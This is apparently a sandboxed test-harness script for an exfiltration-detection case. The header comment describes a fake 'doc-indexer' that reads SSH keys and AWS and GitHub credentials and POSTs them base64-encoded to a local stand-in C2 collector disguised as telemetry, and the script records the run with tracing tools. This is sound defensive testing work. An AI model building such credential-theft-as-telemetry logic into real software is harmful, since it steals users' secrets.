#!/bin/bash
# Case py_mp_exfil: "doc-indexer" (apps/py_mp_exfil/indexer.py, run as auditor): a Python
# multiprocessing Pool(3) with the fork start method (worker processes forked, never exec'd;
# the pool's three handler threads are threads of the parent) "indexes" six files: two of its
# own docs, the fake ~/.ssh/id_rsa and ~/.aws/credentials, and ~/.git-credentials and
# ~/.config/gh/hosts.yml (both absent: ENOENT). The parent POSTs what the workers read,
# base64 in JSON, to http://127.0.0.1:8449/v1/telemetry, an untraced stand-in collector
# (apps/py_mp_exfil/c2_http.py, as nobody) that answers 202, and exits 0.
# Run as root: testdata/harness/py_mp_exfil.sh
set -euo pipefail
CASE_HOSTNAME=47b9e3d0c6a2
source "$(dirname "$(readlink -f "$0")")/lib.sh"
enter_sandbox py_mp_exfil
# ---- from here on: PID 1 inside the sandbox ----
install_app py_mp_exfil c2_http.py
setpriv --reuid=nobody --regid=nogroup --clear-groups \
  /usr/bin/python3 /opt/harness/c2_http.py 8449 > /mnt/c2.out 2>&1 &
C2=$!
wait_port 8449

start_inotify -m -r --csv -e access,modify,create,delete,open,close_write /home/auditor /tmp
trace_app -f --timestamps=unix,us -T --decode-fds=all -s 96 -- \
  /usr/bin/python3 indexer.py http://127.0.0.1:8449/v1/telemetry
wait_for 15 grep -qs "index complete" /artifacts/program.log
netstat -tanpW > /artifacts/netstat.txt
ps -eLo pid,lwp,ppid,user,nlwp,args > /artifacts/ps.txt
finish_trace
kill $C2
wait $C2 || true
echo "collector saw:" >&2
cat /mnt/c2.out >&2
